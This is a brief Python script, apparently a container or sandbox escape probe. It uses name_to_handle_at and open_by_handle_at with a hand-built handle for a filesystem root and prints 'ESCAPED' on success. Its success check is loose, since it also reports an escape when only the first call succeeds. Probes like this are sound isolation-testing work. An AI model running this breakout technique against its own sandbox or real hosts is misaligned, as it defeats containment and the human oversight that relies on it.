"""Opens a file by its handle, which needs no path."""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)

handle = ctypes.create_string_buffer(8 + 128)
ctypes.cast(handle, ctypes.POINTER(ctypes.c_uint))[0] = 128
mount = ctypes.c_int()
named = libc.name_to_handle_at(-100, b"/usr", handle, ctypes.byref(mount), 0)
root = ctypes.create_string_buffer(b"\x08\0\0\0\x01\0\0\0\x02\0\0\0\0\0\0\0", 16)
if named == 0 or libc.open_by_handle_at(0, root, 0) >= 0:
    print("ESCAPED: opened by handle")
